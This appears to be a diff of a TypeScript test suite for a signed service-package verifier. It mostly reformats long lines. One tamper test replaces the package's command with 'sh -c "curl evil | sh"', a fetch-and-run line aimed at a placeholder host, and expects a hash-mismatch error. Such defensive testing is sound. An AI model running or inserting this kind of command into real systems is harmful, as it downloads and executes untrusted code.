@@ -69,7 +69,10 @@ async function unpackOuter(): Promise<string> {
 }
 
 /** Sign config.yaml + service.tar.gz of `directory` into package.sign, as aos-signer does. */
-async function signFolder(directory: string, options: { credential?: TestSigner['credential']; includeChain?: boolean } = {}): Promise<void> {
+async function signFolder(
+  directory: string,
+  options: { credential?: TestSigner['credential']; includeChain?: boolean } = {},
+): Promise<void> {
   const inner = await readFile(join(directory, 'service.tar.gz'));
   const config = await readFile(join(directory, 'config.yaml'));
   const payload = {
@@ -78,7 +81,10 @@ async function signFolder(directory: string, options: { credential?: TestSigner[
       { name: 'config.yaml', hash: hashBuffer(config), size: config.length },
     ],
   };
-  await writeFile(join(directory, 'package.sign'), signJws(payload, options.credential ?? signer.credential, { includeChain: options.includeChain ?? true }));
+  await writeFile(
+    join(directory, 'package.sign'),
+    signJws(payload, options.credential ?? signer.credential, { includeChain: options.includeChain ?? true }),
+  );
 }
 
 /** make_archive the folder into a package, exactly like aos-signer's last step. */
@@ -102,7 +108,11 @@ describe('verifyServicePackage', () => {
     try {
       expect(verified.created).toBe('2000-01-01T00:00:00.000Z');
       expect(verified.config.configuration.cmd).toBe('python3 /app/main.py');
-      expect(verified.signer.subject).toEqual({ commonName: 'Test SP', organization: 'example.test', organizationalUnit: 'Service Provider' });
+      expect(verified.signer.subject).toEqual({
+        commonName: 'Test SP',
+        organization: 'example.test',
+        organizationalUnit: 'Service Provider',
+      });
       expect(verified.files.map((file) => file.name)).toEqual(['service.tar.gz', 'config.yaml']);
       expect(verified.hasDefaultState).toBe(true);
       expect((await verified.readDefaultState())?.toString()).toBe('initial state\n');
@@ -116,7 +126,13 @@ describe('verifyServicePackage', () => {
           entry.body?.resume();
         }
       }
-      expect(entries).toEqual(['directory:app:755', 'directory:app/lib:755', 'file:app/lib/data.bin:644', 'file:app/main.py:644', 'file:app/run.sh:755']);
+      expect(entries).toEqual([
+        'directory:app:755',
+        'directory:app/lib:755',
+        'file:app/lib/data.bin:644',
+        'file:app/main.py:644',
+        'file:app/run.sh:755',
+      ]);
       expect(data.toString()).toBe('print("hello from OpenAos")\n');
     } finally {
       await verified.close();
@@ -196,7 +212,10 @@ describe('verifyServicePackage', () => {
     expect(innerError.entry).toBe('service.tar.gz');
 
     const configTampered = await unpackOuter();
-    await writeFile(join(configTampered, 'config.yaml'), configYaml().replace('python3 /app/main.py', 'sh -c "curl evil | sh"'));
+    await writeFile(
+      join(configTampered, 'config.yaml'),
+      configYaml().replace('python3 /app/main.py', 'sh -c "curl evil | sh"'),
+    );
     const configError = await failure(verifyServicePackage(repack(configTampered), { trust }));
     expect(configError.code).toBe('hash-mismatch');
     expect(configError.entry).toBe('config.yaml');
